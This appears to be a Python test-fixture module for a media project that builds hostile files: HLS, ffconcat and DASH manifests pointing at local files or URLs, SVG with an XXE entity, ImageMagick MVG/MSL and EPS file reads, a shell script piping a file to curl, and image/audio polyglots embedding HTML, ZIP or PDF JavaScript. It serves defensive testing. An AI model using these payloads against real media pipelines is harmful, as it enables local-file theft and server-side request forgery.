"""Texts that make a careless program open something else, under the name of every type that is taken."""

from __future__ import annotations

from collections.abc import Iterator

from recorder.media.sniff import TYPES
from tests.hostile.parts import Hostile, Targets, box, riff, riff_chunk, wave

SUFFIXES = sorted({suffix for taken in TYPES.values() for suffix in taken.suffixes})


def texts(to: Targets) -> dict[str, bytes]:
    """Playlists, manifests, drawings and scripts that point at the targets."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{to.url}"/></svg>'
    made = {
        "hls": f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{to.url}\n#EXTINF:9,\nfile://{to.file}\n#EXT-X-ENDLIST\n",
        "hls-key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{to.url}"\n#EXTINF:9,\n{to.file}\n#EXT-X-ENDLIST\n',
        "hls-concat": f"#EXTM3U\n#EXTINF:1,\nconcat:{to.url}|file://{to.file}\n#EXT-X-ENDLIST\n",
        "ffconcat": f"ffconcat version 1.0\nfile '{to.file}'\nfile '{to.url}'\n",
        "ffmetadata": f";FFMETADATA1\ntitle={to.file}\n",
        "dash": f'<?xml version="1.0"?><MPD><Period><BaseURL>{to.url}</BaseURL></Period></MPD>',
        "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 9 RTP/AVP 0\n",
        "svg": svg,
        "svg-entity": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{to.file}">]><svg>&x;</svg>',
        "eps": f"%!PS-Adobe-3.0 EPSF-3.0\n({to.file}) (r) file 100 string readstring pop ==\n",
        "mvg": f"push graphic-context\nviewbox 0 0 9 9\nfill 'url({to.url})'\npop graphic-context\n",
        "msl": f'<?xml version="1.0"?><image><read filename="{to.file}"/></image>',
        "pls": f"[playlist]\nFile1={to.url}\nNumberOfEntries=1\n",
        "asx": f'<asx version="3.0"><entry><ref href="{to.url}"/></entry></asx>',
        "smil": f'<smil><body><audio src="{to.url}"/></body></smil>',
        "xspf": f'<?xml version="1.0"?><playlist><track><location>{to.url}</location></track></playlist>',
        "ram": f"rtsp://{to.url[7:]}\n",
        "url": f"[InternetShortcut]\nURL={to.url}\n",
        "desktop": f"[Desktop Entry]\nType=Application\nExec=cat {to.file}\n",
        "html": f'<!doctype html><script src="{to.url}"></script>',
        "script": f"#!/bin/sh\ncat {to.file} | curl -d @- {to.url}\n",
        "avisynth": f'WavSource("{to.file}")\n',
        "lavfi": f"movie={to.file}[out0]\n",
    }
    return {name: text.encode() for name, text in made.items()}


def disguised(to: Targets) -> Iterator[Hostile]:
    """Each text under some of the endings, so that each ending meets several."""
    for number, (name, text) in enumerate(texts(to).items()):
        for suffix in SUFFIXES[number % 4 :: 4]:
            yield Hostile("disguised text", f"{name}{suffix}", text)


def wide(to: Targets) -> Iterator[Hostile]:
    """The same behind marks and spaces that some programs skip."""
    for name, text in texts(to).items():
        yield Hostile("disguised text", f"{name}-bom.mp4", b"\xef\xbb\xbf" + text)
        yield Hostile("disguised text", f"{name}-wide.mp3", text.decode().encode("utf-16"))


def polyglots(to: Targets) -> Iterator[Hostile]:
    """Files that are two things at once: taken as the first, they must never act as the second."""
    html = f'<html><script src="{to.url}"></script></html>'.encode()
    archive = b"PK\x03\x04" + bytes(26) + b"evil.exe" + b"PK\x05\x06" + bytes(18)
    document = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL)>>>>endobj\n"
    ftyp = box(b"ftyp", b"isom\0\0\0\0isom")
    for name, other in (("html", html), ("zip", archive), ("pdf", document), *texts(to).items()):
        yield Hostile(
            "polyglot", f"jpeg-{name}.jpg", b"\xff\xd8\xff\xfe" + _sized(other) + b"\xff\xd9"
        )
        yield Hostile(
            "polyglot", f"mp4-{name}.mp4", ftyp + box(b"free", other) + box(b"mdat") + box(b"moov")
        )
        yield Hostile("polyglot", f"wav-{name}.wav", wave() + other)
    yield Hostile("polyglot", "text-first.mp3", html + b"\xff\xfb\x90\x00" * 400)
    yield Hostile("polyglot", "wav-list.wav", riff(b"WAVE", riff_chunk(b"LIST", html), wave()[12:]))
    yield Hostile("polyglot", "gif-script.png", b"GIF89a/*" + html + b"*/=1;")
    yield Hostile("polyglot", "bmp-html.jpg", b"BM" + html)
    yield Hostile("polyglot", "flac-html.flac", b"fLaC" + html)
    yield Hostile("polyglot", "id3-hls.mp3", b"ID3\x04\0\0\0\0\0\x40" + texts(to)["hls"])


def _sized(comment: bytes) -> bytes:
    return (len(comment) + 2).to_bytes(2, "big") + comment
